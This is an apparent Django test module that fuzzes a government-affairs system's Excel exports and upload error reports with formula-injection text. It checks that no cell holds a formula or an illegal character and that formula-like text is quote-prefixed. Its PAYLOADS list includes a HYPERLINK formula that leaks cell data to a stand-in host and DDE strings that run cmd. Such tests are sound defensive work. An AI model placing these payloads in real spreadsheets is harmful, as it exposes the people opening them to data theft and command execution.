"""Every workbook the system produces, with hostile text in the data it is made of: formulas
(a HYPERLINK that sends sheet data out when clicked, DDE), text led by = + - @, a tab or a
carriage return, and control characters XML cannot hold. The text is seeded into the rows the
exports read — every free-text column of every row the objects below made, as rows stored
before the input rules would hold it — and into the workbooks people upload, whose error
reports give their cells back. Each export must open with openpyxl, hold no formula, no
XML-illegal character, and carry the quote prefix on every text that starts like a formula."""

from __future__ import annotations

import io
import itertools
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from unittest import mock

from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from qingfeng.core.audit import record_audit
from qingfeng.core.models import AuditEvent
from qingfeng.core.tests.test_url_policy import objects
from qingfeng.core.tests.work import last_job, post_and_run
from qingfeng.evaluation import actions as evaluation_actions
from qingfeng.evaluation.models import Round, ScoreImport
from qingfeng.evaluation.tests.test_score_import import office_xlsx
from qingfeng.ledger.models import LedgerImport
from qingfeng.ledger.tests.test_excel_pages import workbook_bytes
from qingfeng.lib.xlsx import FORMULA_START
from qingfeng.orgs import roster
from qingfeng.orgs.models import Role, RosterImport
from qingfeng.orgs.tests.test_roster import workbook as roster_workbook
from qingfeng.oversight import actions as oversight_actions
from qingfeng.oversight.models import Draw
from qingfeng.test import BaseTestCase, OwnMedia, make_user

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"点此查看详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 制表符开头",
    "\r=1+1 回车开头",
    "=1+1\x01控制\x0b字符\x1f",
    "-\x02\x1b[31m终端转义\x7f",
    "@\u202e\x08退格\x0c换页",
)
# What an uploaded workbook can hold: its XML cannot carry the control characters either.
UPLOADABLE = tuple(p for p in PAYLOADS if not ILLEGAL_CHARACTERS_RE.search(p))
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Objects whose rows the exports read, made through each app's actions (tests/objects.py).
MADE = (
    "intake:attachment",
    "ledger:evidence",
    "ledger:publication",
    "evaluation:round",
    "evaluation:comment_ticket",
    "learning:unit",
    "learning:session",
    "learning:pledge",
    "learning:case",
    "oversight:photo",
    "oversight:draw",
    "oversight:round",
    "oversight:request_file",
    "reports:assessment",
    "campaigns:file",
)
# Columns whose text is a key, a code, a digest or a machine value, not words a person wrote.
MACHINE = re.compile(
    r"(^|_)(key|hash|token|tokens|path|code|number|status|kind|index|digest|ref|type|ext|"
    r"username|password|secret|salt|seed|commitment|signature|url|ip|id|phone|email|mode|"
    r"format|lane|algorithm|language|version|quarter|prefix|mime|host|name_key|slug)($|_)"
)


def seed_text() -> int:
    """Put a payload in front of every non-empty free-text column of every row of the
    project's models (the audit trail is append-only: it gets its own rows). Returns how many
    values were seeded."""
    payloads = itertools.cycle(PAYLOADS)
    seeded = 0
    for model in apps.get_models():
        if not model.__module__.startswith("qingfeng.") or model is AuditEvent:
            continue
        fields = [
            f
            for f in model._meta.concrete_fields
            if isinstance(f, models.CharField | models.TextField)
            and not f.choices
            and not f.primary_key
            and f.editable
            and not MACHINE.search(f.name)
        ]
        if not fields:
            continue
        for row in model._base_manager.all():
            changes = {}
            for field in fields:
                value = getattr(row, field.attname)
                if isinstance(value, str) and value.strip():
                    # A unique column gets the payload's first two characters only, so two
                    # long names cut to the column's length stay apart.
                    payload = next(payloads)
                    text = (payload[:2] if field.unique else payload) + value
                    changes[field.attname] = text[: field.max_length] if field.max_length else text
            if changes:
                model._base_manager.filter(pk=row.pk).update(**changes)
                seeded += len(changes)
    return seeded


@dataclass(frozen=True)
class Export:
    name: str
    fetch: Callable[[ExportFuzzTestCase], Any]  # the response with the workbook
    seeded: bool = True  # hostile text is expected in it (False: nothing typed goes there)


class ExportFuzzTestCase(OwnMedia, BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        factories = objects()
        self.made = {key: factories[key](self) for key in MADE}
        # The draw drawn, by the two officials the second public value needs.
        draw = Draw.objects.get(pk=self.made["oversight:draw"].ids["pk"])
        second = make_user(
            "fuzz_office", unit=self.bureau, role=Role.CAMPAIGN_OFFICE, name="上官文静"
        )
        oversight_actions.check_enter_value(
            draw, actor=self.bureau_admin, value="371", source="福彩3D"
        )
        oversight_actions.check_enter_value(draw, actor=second, value="3389.42", source="上证指数")
        self.assertGreater(seed_text(), 50)
        for payload in PAYLOADS:
            record_audit(actor=self.bureau_admin, action="intake.ticket.note", object_repr=payload)

    def as_(self, user: Any) -> Any:
        return self.login(user)

    def upload_ledger(self) -> Any:
        rows = [
            [
                i + 1,
                "个人整改清单",
                "自查",
                p,
                p,
                p,
                "退费",
                p,
                "周小燕",
                "限期整改",
                "2026年12月31日",
            ]
            for i, p in enumerate(UPLOADABLE)
        ]
        data = workbook_bytes(rows)
        self.as_(self.county_admin)
        post_and_run(self, "/ledger/import/", {"file": SimpleUploadedFile("台账.xlsx", data, XLSX)})
        record = LedgerImport.objects.latest("pk")
        self.assertTrue(record.error_file, record.status)
        return self.client.get(f"/ledger/import/{record.pk}/errors.xlsx")

    def upload_roster(self) -> Any:
        people = [
            [payload, "S9999", payload, "专任教师", payload, "是", "", "是"]
            for payload in UPLOADABLE
        ]
        upload = SimpleUploadedFile("名册.xlsx", roster_workbook(people=people))
        record = roster.do_receive_roster(upload, actor=self.county_admin)
        record = roster.do_import_roster(record, actor=self.county_admin)
        self.assertEqual(record.status, RosterImport.Status.REJECTED)
        return self.as_(self.county_admin).get(f"/orgs/roster/{record.pk}/errors.xlsx")

    def upload_scores(self) -> Any:
        round_ = Round.objects.get(pk=self.made["evaluation:round"].ids["pk"])
        assessor = make_user(
            "fuzz_assessor", unit=self.county, role=Role.THIRD_PARTY, name="评估员"
        )
        data = office_xlsx(
            [
                [i + 1, payload, payload, "90", payload, payload]
                for i, payload in enumerate(UPLOADABLE)
            ]
        )
        evaluation_actions.check_import_scores(
            round_, SimpleUploadedFile("得分.xlsx", data), actor=assessor
        )
        record = ScoreImport.objects.latest("pk")
        self.assertTrue(record.error_file, record.status)
        return self.as_(self.bureau_admin).get(
            f"/evaluation/{round_.pk}/scores/{record.pk}/errors.xlsx"
        )

    def ledger_as_a_job(self) -> Any:
        self.as_(self.county_admin)
        with mock.patch("qingfeng.ledger.excel_views.EXPORT_INLINE", 0):
            post_and_run(self, "/ledger/export.xlsx", method="get")
        return self.client.get(f"/core/jobs/{last_job('ledger.export').pk}/file/")

    def made_url(self, key: str, route: str) -> str:
        return reverse(route, kwargs=self.made[key].ids)

    def opened(self, response: Any) -> list[Any]:
        self.assertEqual(response.status_code, 200)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        book = load_workbook(io.BytesIO(body))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        for cell in cells:
            if isinstance(cell.value, str):
                self.assertNotEqual(cell.data_type, "f", cell.value)
                self.assertIsNone(ILLEGAL_CHARACTERS_RE.search(cell.value), repr(cell.value))
                if cell.value.startswith(FORMULA_START):
                    self.assertTrue(cell.quotePrefix, repr(cell.value))
        return cells

    def test_every_export_is_text_safe(self) -> None:
        county = self.county.pk
        exports = [
            Export("审计日志", lambda t: t.as_(t.auditor).get("/core/audit/export.xlsx")),
            Export("直通车工单", lambda t: t.as_(t.bureau_admin).get("/intake/export/")),
            Export("整改台账", lambda t: t.as_(t.county_admin).get("/ledger/export.xlsx")),
            Export("整改台账（后台导出）", ExportFuzzTestCase.ledger_as_a_job),
            # The template's drop-down lists hold the categories' names.
            Export(
                "台账导入模板", lambda t: t.as_(t.county_admin).get("/ledger/import/template.xlsx")
            ),
            Export("台账导入错误清单", ExportFuzzTestCase.upload_ledger),
            Export("名册", lambda t: t.as_(t.county_admin).get("/orgs/roster/export.xlsx")),
            Export(
                "名册（明文手机号）",
                lambda t: t.as_(t.county_admin).post(
                    "/orgs/roster/export-clear.xlsx", {"unit": county, "reason": "核对联系方式"}
                ),
            ),
            Export(
                "名册模板",  # fixed headings and notes: no row's text
                lambda t: t.as_(t.county_admin).get("/orgs/roster/template.xlsx"),
                seeded=False,
            ),
            Export("名册错误说明", ExportFuzzTestCase.upload_roster),
            Export(
                "评议结果",
                lambda t: t.as_(t.bureau_admin).get(
                    t.made_url("evaluation:round", "evaluation:export")
                ),
            ),
            Export(
                "评估得分模板",
                lambda t: t.as_(t.bureau_admin).get(
                    t.made_url("evaluation:round", "evaluation:score_template")
                ),
            ),
            Export("评估得分错误报告", ExportFuzzTestCase.upload_scores),
            Export(
                "学习档案",
                lambda t: t.as_(t.school_admin).get(t.made_url("learning:unit", "learning:export")),
            ),
            Export("督导检查", lambda t: t.as_(t.bureau_admin).get("/oversight/visits.xlsx")),
            Export(
                "抽签结果",
                lambda t: t.as_(t.bureau_admin).get(
                    t.made_url("oversight:draw", "oversight:draw_export")
                ),
            ),
            Export(
                "巡察发现问题",
                lambda t: t.as_(t.bureau_admin).get(
                    t.made_url("oversight:round", "oversight:round_findings_export")
                ),
            ),
            Export(
                "季度考评",
                lambda t: t.as_(t.bureau_admin).get(
                    t.made_url("reports:assessment", "reports:assessment_export")
                ),
            ),
            Export("驾驶舱", lambda t: t.as_(t.bureau_admin).get("/dashboard/export/")),
        ]
        for export in exports:
            with self.subTest(export=export.name):
                cells = self.opened(export.fetch(self))
                if export.seeded:
                    prefixed = [
                        c.value for c in cells if c.quotePrefix and isinstance(c.value, str)
                    ]
                    self.assertTrue(prefixed, "no hostile text reached this export")
